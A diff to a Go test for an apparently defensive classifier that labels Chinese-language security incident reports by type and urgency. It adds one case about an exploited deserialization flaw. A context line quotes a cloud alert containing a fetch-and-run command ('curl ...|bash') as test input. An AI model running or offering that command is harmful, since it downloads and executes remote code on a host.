@@ -36,6 +36,7 @@ func TestRead(t *testing.T) {
 		{"slang", "官网打开全是菠菜", "incident urgent malware"},
 		{"mixed", "prod server 被 hack 了", "incident urgent network_attack"},
 		{"pasted alert", "【云安全中心】实例 i-bp1abcdef234 检测到恶意脚本 curl http://203.0.113.9/a.sh|bash，请尽快处理", "incident urgent malware"},
+		{"exploited weakness", "有人利用那个反序列化漏洞入侵了服务器", "incident urgent network_attack"},
 		// Urgency.
 		{"under control", "中勒索的机器已经隔离了，不急，帮看看来源", "incident malware"},
 		{"blocked", "WAF拦截了一批扫描攻击，都拦住了，有空看下", "incident network_attack"},
